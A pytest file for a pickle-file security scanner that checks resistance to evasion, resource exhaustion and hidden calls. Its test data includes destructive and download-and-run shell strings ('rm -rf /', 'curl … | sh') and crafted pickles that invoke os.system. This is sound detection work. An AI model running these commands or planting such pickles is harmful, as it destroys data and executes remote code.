"""Whatever a pickle has the engine touch is counted, and nothing is beyond what the engine looks at."""

from __future__ import annotations

import struct
from typing import Any

import pytest
from samples.judged import judged, level, rules
from samples.opcodes import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    FALSE,
    FROZENSET,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    SETITEMS,
    TRUE,
    TUPLE,
    TUPLE1,
    call,
    data,
    dict_,
    get,
    global_,
    new,
    number,
    pickle,
    put,
    sizes,
    storage,
    text,
    tuple_,
)

from picklewatch.analysis.pickle import EVASION, Budget, LimitReached, WalkFailed, judge_pickle
from picklewatch.analysis.pickle.report import WORK
from picklewatch.analysis.pickle.semantics.machine import Machine
from picklewatch.analysis.pickle.vm.values import DICT_CAP, LIST_CAP
from picklewatch.core.model import Level

_USES = 20
_ITEMS = 4_000


def _kept(place: int, value: bytes) -> bytes:
    return value + put(place) + POP


def _reduce(module: str, name: str) -> tuple[bytes, bytes]:
    return _kept(1, global_(module, name)), get(1) + get(2) + REDUCE + POP


def _newobj(module: str, name: str) -> tuple[bytes, bytes]:
    return _kept(1, global_(module, name)), get(1) + get(2) + NEWOBJ + POP


_BUILD = _kept(1, global_("company", "Thing")), get(1) + EMPTY_TUPLE + NEWOBJ + get(2) + BUILD + POP
_KEYWORDS = _kept(1, global_("company", "Thing")) + _kept(3, dict_(a=NONE)), get(1) + get(2) + get(3) + NEWOBJ_EX + POP
_SIZES = (
    _kept(1, global_("torch._utils", "_rebuild_tensor_v2")) + _kept(3, storage()),
    get(1) + MARK + get(3) + number(0) + get(2) + get(2) + FALSE + NONE + TUPLE + REDUCE + POP,
)
_KINDS = {
    "a call of what nobody knows": _reduce("company", "run"),
    "an instance of what nobody knows": _newobj("company", "Thing"),
    "a vouched class": _newobj("torch.nn.modules.linear", "Linear"),
    "a dict": _reduce("builtins", "dict"),
    "an element type": _reduce("numpy", "dtype"),
    "objects of a library": _reduce("pandas.core.internals.managers", "BlockManager"),
    "copyreg": _reduce("copyreg", "__newobj__"),
    "a name to be fetched": _reduce("operator", "attrgetter"),
    "a kept call": _reduce("functools", "partial"),
    "an evaluator": _reduce("sympy.core.expr", "Expr"),
    "arguments that become attributes": _reduce("types", "SimpleNamespace"),
    "denied": _reduce("os", "system"),
    "keywords": _KEYWORDS,
    "a state": _BUILD,
    "a tensor's sizes": _SIZES,
}
"""What uses a value again and again: before it is made (at 2), and each time."""
_SHARED = {
    "empty lists": MARK + EMPTY_LIST * _ITEMS + TUPLE,
    "texts and nothing": MARK + (text("a") + NONE) * (_ITEMS // 2) + TUPLE,
}


def _work(data_: bytes) -> int:
    """Units of work that judging *data_* takes, all of them if that ends it."""
    budget = Budget(fickling_seconds_left=0.0)
    try:
        judge_pickle(data_, budget=budget)
    except LimitReached as limit:
        return WORK if limit.rule == EVASION else 0
    return WORK - budget.work_left


@pytest.mark.parametrize("shared", _SHARED.values(), ids=_SHARED)
@pytest.mark.parametrize(("before", "use"), _KINDS.values(), ids=_KINDS)
def test_each_use_of_a_large_value_is_charged_for(before: bytes, use: bytes, shared: bytes) -> None:
    """As often as it is looked at: an attacker shares one value among a million calls."""
    once, often = (_work(pickle(4, before, _kept(2, shared), use * count, NONE)) for count in (1, 1 + _USES))
    assert often - once >= _USES * _ITEMS // 16


@pytest.mark.parametrize(
    ("before", "use"),
    [
        (_kept(2, MARK + (NONE + TUPLE1) * _ITEMS + TUPLE) + EMPTY_DICT, get(2) + NONE + SETITEM),
        (_kept(2, MARK + (NONE + TUPLE1) * _ITEMS + TUPLE), MARK + get(2) + FROZENSET + POP),
        (_kept(1, global_("company", "run")) + _kept(2, text("a;b" * 1_300) + TUPLE1), get(1) + get(2) + REDUCE + POP),
        (
            _kept(1, global_("torch.storage", "_load_from_bytes"))
            + _kept(2, data(b"\x80\x02" + b"N0" * 9_000) + TUPLE1),
            get(1) + get(2) + REDUCE + POP,
        ),
    ],
    ids=["keys", "members", "a text", "nested pickles"],
)
def test_what_is_remembered_is_looked_at_once(before: bytes, use: bytes) -> None:
    """What cannot change is not looked at again."""
    counts = [_work(pickle(4, before, use * count, NONE)) for count in (1, 2, 1 + _USES)]
    assert counts[2] - counts[1] == (_USES - 1) * (counts[1] - counts[0]) or counts[2] < 3 * counts[0]


def _types(levels: int, width: int) -> bytes:
    """Element types within each other, each *width* times in the next: all that is left is the outermost."""
    made = _kept(9, call("numpy", "dtype", text("f4"), FALSE, TRUE))
    for _ in range(levels):
        parts = b"".join(text(f"f{part}") + tuple_(get(9), number(0)) for part in range(width))
        state = tuple_(
            number(3), text("|"), NONE, NONE, EMPTY_DICT + MARK + parts + SETITEMS, number(4), number(1), number(0)
        )
        made += _kept(9, call("numpy", "dtype", text("V4"), FALSE, TRUE) + state + BUILD)
    return made + get(9)


def test_element_types_are_looked_at_once() -> None:
    """A hundred fields of a type of a hundred fields, and so on: more than there are atoms, if each is looked into."""
    assert _work(pickle(4, _types(9, 100))) < WORK // 10


def test_a_pointer_deep_within_an_element_type_is_seen() -> None:
    """Twelve types around an object that none of them admits to hold."""
    inner = call("numpy", "dtype", text("O"), FALSE, TRUE)
    for _ in range(12):
        parts = EMPTY_DICT + MARK + text("f") + tuple_(inner, number(0)) + SETITEMS
        state = tuple_(number(3), text("|"), NONE, NONE, parts, number(8), number(1), number(0))
        inner = call("numpy", "dtype", text("V8"), FALSE, TRUE) + state + BUILD
    scalar = call("numpy.core.multiarray", "scalar", inner, data(b"12345678"))
    (found,) = {finding.where for finding in judged(pickle(4, scalar)).findings if "made from raw" in finding.summary}
    assert found


def test_millions_of_objects_of_a_few_bytes_are_evasion() -> None:
    """One byte of a pickle is a list that takes eighty: a compressed megabyte would fill any memory."""
    with pytest.raises(LimitReached) as limit:
        judged(MARK * 4_000_000)
    assert limit.value.rule == EVASION


@pytest.mark.parametrize(
    "args",
    [
        MARK + text("rm -rf / ; true") + text("a label") * 1_000 + TUPLE,
        MARK + text("a label") * 1_000 + text("rm -rf / ; true") + TUPLE,
        tuple_(text("a " * 3_000 + "; curl http://example.com | sh")),
        tuple_(EMPTY_SET + MARK + text("rm -rf / ; true") + ADDITEMS),
        tuple_(MARK + number(1) * 70 + text("rm -rf / ; true") + FROZENSET),
        tuple_(EMPTY_LIST + MARK + number(1) * LIST_CAP + APPENDS + text("rm -rf / ; true") + APPEND),
        tuple_(
            EMPTY_DICT
            + MARK
            + b"".join(number(one) + NONE for one in range(DICT_CAP))
            + SETITEMS
            + NONE
            + text("rm -rf / ; true")
            + SETITEM
        ),
    ],
    ids=["first", "last", "in a long text", "in a set", "in a frozenset", "in a long list", "in a large dict"],
)
def test_a_command_is_seen_wherever_it_is(args: bytes) -> None:
    """Behind any number of decoys: `Unknown` alone would be unverified."""
    report = judged(pickle(4, global_("company", "Unknown"), args, REDUCE))
    assert {finding.rule for finding in report.findings} == {"suspicious-arguments"}


@pytest.mark.parametrize("size", [10, LIST_CAP + 10])
def test_an_array_of_objects_has_as_many_items_as_its_list(size: int) -> None:
    """Numpy fills it without a look at the list's end, however long the list is."""
    dtype = call("numpy", "dtype", text("O8"), FALSE, TRUE)
    empty = call("numpy.core.multiarray", "_reconstruct", global_("numpy", "ndarray"), sizes(0), data(b"b"))
    many = (
        EMPTY_LIST
        + (MARK + number(1) * 1_000 + APPENDS) * (size // 1_000)
        + MARK
        + number(1) * (size % 1_000)
        + APPENDS
    )

    def filled(elements: int) -> bytes:
        return pickle(4, empty, tuple_(number(1), sizes(elements), dtype, FALSE, many), BUILD)

    assert judged(filled(size)).inert
    assert level(judged(filled(size + 1))) is Level.MALICIOUS


def test_a_number_that_has_no_digits_fails_nothing() -> None:
    """A size of 590 digits times a shape of 64: Python would not print the product."""
    dtype = call("numpy", "dtype", text("V8"), FALSE, TRUE) + tuple_(
        number(3), text("|"), NONE, NONE, NONE, b"L" + b"9" * 590 + b"L\n", number(1), number(0)
    )
    shape = sizes(*[(1 << 62)] * 64)
    empty = call("numpy.core.multiarray", "_reconstruct", global_("numpy", "ndarray"), sizes(0), data(b"b"))
    report = judged(pickle(4, empty, tuple_(number(1), shape, dtype + BUILD, FALSE, data(b"12345678")), BUILD))
    assert "numpy-size-mismatch" in rules(report)


def test_a_padded_number_is_that_number() -> None:
    """As many zeros as an attacker likes: the size is still the array's."""
    padded = b"L0x" + b"0" * 5_000 + b"10L\n"
    dtype = call("numpy", "dtype", text("f8"), FALSE, TRUE)
    empty = call("numpy.core.multiarray", "_reconstruct", global_("numpy", "ndarray"), sizes(0), data(b"b"))
    report = judged(pickle(4, empty, tuple_(number(1), tuple_(padded), dtype, FALSE, data(b"12345678")), BUILD))
    assert level(report) is Level.MALICIOUS


def test_memo_entries_of_many_digits_are_not_mixed_up() -> None:
    """Numbers that differ in their last digit alone: the walk calls what the reader calls."""
    one, two = (b"1" * 5_000 + digit for digit in (b"1", b"2"))
    swapped = (
        global_("os", "system") + b"p" + one + b"\n0" + global_("collections", "OrderedDict") + b"p" + two + b"\n0"
    )
    report = judged(swapped + b"g" + one + b"\n" + EMPTY_TUPLE + REDUCE + b".")
    assert level(report) is Level.MALICIOUS
    assert "calls os.system" in " ".join(finding.summary for finding in report.findings)


@pytest.mark.parametrize("formula", ["1" * 4_000 + "!", "a" + " " * 3_900 + "!", "a (" * 1_300])
def test_a_formula_of_any_shape_is_read_once(formula: str) -> None:
    """A pattern that tries all ways to part four thousand digits has no end."""
    state = dict_(formula=text(formula))
    made = new("statsmodels.base.data", "PandasData") + state + BUILD
    assert judged(pickle(4, made)).stopped


@pytest.mark.parametrize(
    "end", [b"", b"a", b"t", b"\xff", b"h\x09"], ids=["cut", "underflow", "no-mark", "none", "memo"]
)
def test_opcodes_before_the_walk_breaks_off_are_charged(end: bytes) -> None:
    """Thousands of places where no pickle begins cost what a pickle of as many opcodes costs."""
    budget = Budget(fickling_seconds_left=0.0)
    before = budget.work_left
    report = judge_pickle(NONE * 1_000 + b"0" * 1_000 + end, budget=budget)
    assert not report.stopped
    assert before - budget.work_left >= report.opcodes >= 2_000


def test_what_was_seen_before_a_fault_of_ours_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where a parser fails is up to an attacker: the call before it counts all the same."""

    def fail(_machine: Machine, _target: Any, _state: Any, _offset: int) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(Machine, "build", fail)
    with pytest.raises(WalkFailed) as failed:
        judged(pickle(4, call("os", "system", text("true")), NONE, BUILD))
    assert isinstance(failed.value.cause, ZeroDivisionError)
    assert level(failed.value.report) is Level.MALICIOUS


def test_many_pickles_within_a_pickle_are_all_handed_on() -> None:
    """The last of three thousand is as good as the first."""
    inner = [pickle(2, call("os", "system", struct.pack("<cI", b"X", 4) + b"%04d" % one)) for one in range(3_000)]
    report = judged(pickle(4, *(data(one) + POP for one in inner), NONE))
    assert [nested.data for nested in report.nested] == inner


def test_findings_of_one_level_leave_room_for_the_worse() -> None:
    """Six thousand that are unsafe, and then one that is malicious."""
    decoys = (b"\x82\x01" + POP) * 6_000
    report = judged(pickle(4, decoys, EMPTY_LIST, NONE, BUILD))
    assert level(report) is Level.MALICIOUS
